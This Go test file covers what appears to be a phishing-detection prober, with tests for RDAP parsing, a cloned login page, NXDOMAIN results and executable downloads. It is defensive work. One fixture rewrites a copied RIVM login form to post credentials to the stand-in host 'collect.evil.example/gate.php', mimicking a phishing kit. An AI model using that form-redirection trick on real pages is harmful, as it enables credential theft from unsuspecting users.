package probe

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
)

// rdapBody is an RFC 9083 domain object in the shape registries serve.
func rdapBody(registered time.Time) string {
	return `{"objectClassName":"domain","ldhName":"live.test",
"events":[{"eventAction":"last changed","eventDate":"2024-01-01T00:00:00Z"},
 {"eventAction":"registration","eventDate":"` + registered.Format(time.RFC3339) + `"},
 {"eventAction":"expiration","eventDate":"2030-01-02T03:04:05Z"}],
"entities":[{"objectClassName":"entity","roles":["registrar"],
 "vcardArray":["vcard",[["version",{},"text","4.0"],["fn",{},"text","Example Registrar B.V."]]],
 "entities":[{"objectClassName":"entity","roles":["abuse"],
  "vcardArray":["vcard",[["version",{},"text","4.0"],["fn",{},"text","Abuse desk"],["tel",{"type":"voice"},"uri","tel:+31.1"],["email",{},"text","abuse@registrar.example"]]]}]},
 {"roles":["registrant"],"vcardArray":["vcard",[["fn",{},"text","REDACTED"]]]}]}`
}

func TestRDAP(t *testing.T) {
	reg := time.Date(2020, 3, 14, 9, 26, 53, 0, time.UTC)
	srv := newServer(t, false, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/rdap/domain/live.test":
			w.Header().Set("Content-Type", "application/rdap+json")
			fmt.Fprint(w, rdapBody(reg))
		case "/rdap/domain/huge.test":
			fmt.Fprint(w, `{"events":[`+strings.Repeat(`{"eventAction":"x","eventDate":"y"},`, 40000)+`{}]}`)
		default:
			http.NotFound(w, r)
		}
	})
	p := testProber(t, "127.0.0.1:53", func(c *Config) { c.RDAPBase = srv.URL + "/rdap/" })
	r := p.RDAP(context.Background(), "live.test")
	if r.Registered == nil || !r.Registered.Equal(reg) || r.Expires == nil || r.Registrar != "Example Registrar B.V." || r.AbuseEmail != "abuse@registrar.example" || r.Error != "" {
		t.Errorf("RDAP %+v", r)
	}
	if r := p.RDAP(context.Background(), "unknown.test"); r.Status != 404 || r.Error == "" || r.Registered != nil {
		t.Errorf("unknown: %+v", r)
	}
	if r := p.RDAP(context.Background(), "huge.test"); !strings.Contains(r.Error, "larger than") {
		t.Errorf("huge: %+v, want a size error", r)
	}
	off := testProber(t, "127.0.0.1:53", nil)
	if off.RDAP(context.Background(), "live.test") != nil {
		t.Error("RDAP queried with RDAPBase empty")
	}
	var bad RDAP
	if ParseRDAP([]byte(`[1,2]`), &bad) == nil {
		t.Error("non-object accepted")
	}
}

var favicon = []byte("\x89PNG\r\n\x1a\n fake icon bytes for the test")

// TestProbeEndToEnd probes a copied login page against the reference of
// the real one, over TLS, with DNS and RDAP, and checks the signals and
// the JSON snapshot.
func TestProbeEndToEnd(t *testing.T) {
	dnsSrv := startDNS(t)
	brandPage := readPage(t, "brand.html")
	handler := func(page []byte) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/":
				w.Header().Set("Content-Type", "text/html; charset=utf-8")
				w.Write(page)
			case "/img/favicon.png":
				w.Header().Set("Content-Type", "image/png")
				w.Write(favicon)
			default:
				http.NotFound(w, r)
			}
		}
	}
	real := newServer(t, true, handler(brandPage))
	// A kit copies the whole page and points the form at its collector.
	phish := strings.Replace(string(brandPage), `action="/auth/login"`, `action="https://collect.evil.example/gate.php"`, 1)
	fake := newServer(t, true, handler([]byte(phish)))
	rdap := newServer(t, false, func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, rdapBody(time.Now().Add(-72*time.Hour)))
	})

	refProber := testProber(t, dnsSrv.addr, func(c *Config) { c.AllowPrivateTargets = true; c.HTTPSPort = real.port(t) })
	ref, err := refProber.Reference(context.Background(), "brand.test")
	if err != nil {
		t.Fatal(err)
	}
	ref.Names = append(ref.Names, "RIVM")
	ref.Domains = append(ref.Domains, "rivm.nl")
	if ref.Favicon == nil || ref.Favicon.MMH3 != FaviconHash(favicon) || ref.Title != "Inloggen | RIVM" {
		t.Fatalf("reference %+v", ref)
	}

	p := testProber(t, dnsSrv.addr, func(c *Config) {
		c.AllowPrivateTargets = true
		c.HTTPSPort = fake.port(t)
		c.HTTPPort = 1 // nothing listens: the http fetch fails, https carries the page
		c.RDAPBase = rdap.URL
	})
	ev := p.Probe(context.Background(), "live.test", ref)
	got := ev.Signals()
	want := []Signal{SignalResolves, SignalLiveHTTP, SignalLoginForm, SignalPostsElsewhere,
		SignalBrandMentioned, SignalSimilarToBrand, SignalSameFavicon, SignalSameTitle,
		SignalSelfSigned, SignalCertNameMismatch, SignalFreshRegistration}
	if !slices.Equal(got, want) {
		t.Errorf("signals\n got %v\nwant %v", got, want)
	}
	if ev.Similarity.Score < 0.8 {
		t.Errorf("similarity %.3f", ev.Similarity.Score)
	}
	if !slices.Equal(ev.Content.BrandMentions, []string{"rivm", "rivm.nl"}) {
		t.Errorf("mentions %v", ev.Content.BrandMentions)
	}

	b1, err := json.Marshal(ev)
	if err != nil {
		t.Fatal(err)
	}
	b2, _ := json.Marshal(ev)
	if string(b1) != string(b2) {
		t.Error("JSON snapshot is not deterministic")
	}
	for _, key := range []string{`"checked_at"`, `"can_send_mail"`, `"final_url"`, `"self_signed"`, `"login_form"`, `"same_favicon"`, `"abuse_email"`, `"simhash"`} {
		if !strings.Contains(string(b1), key) {
			t.Errorf("snapshot lacks %s", key)
		}
	}
	var back Evidence
	if err := json.Unmarshal(b1, &back); err != nil || back.Content.SimHash != ev.Content.SimHash {
		t.Errorf("snapshot does not round-trip: %v", err)
	}
}

func TestProbeNXDomain(t *testing.T) {
	dnsSrv := startDNS(t)
	p := testProber(t, dnsSrv.addr, nil)
	ev := p.Probe(context.Background(), "nx.test", nil)
	if got := ev.Signals(); !slices.Equal(got, []Signal{SignalNXDomain}) {
		t.Errorf("signals %v, want [nxdomain]", got)
	}
	if ev.Content != nil || ev.Web.HTTPS.Error == "" {
		t.Errorf("content %v, https %+v", ev.Content, ev.Web.HTTPS)
	}
}

func TestProbeNonHTMLIsDownload(t *testing.T) {
	dnsSrv := startDNS(t)
	srv := newServer(t, false, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/x-msdownload")
		w.Header().Set("Content-Disposition", `attachment; filename="covid-info.exe"`)
		w.Write([]byte("MZ\x90\x00"))
	})
	p := testProber(t, dnsSrv.addr, func(c *Config) { c.AllowPrivateTargets = true; c.HTTPPort = srv.port(t); c.HTTPSPort = 1 })
	ev := p.Probe(context.Background(), "live.test", nil)
	if ev.Content == nil || len(ev.Content.Downloads) != 2 || !slices.Contains(ev.Signals(), SignalDownloadOffered) {
		t.Errorf("content %+v signals %v", ev.Content, ev.Signals())
	}
}
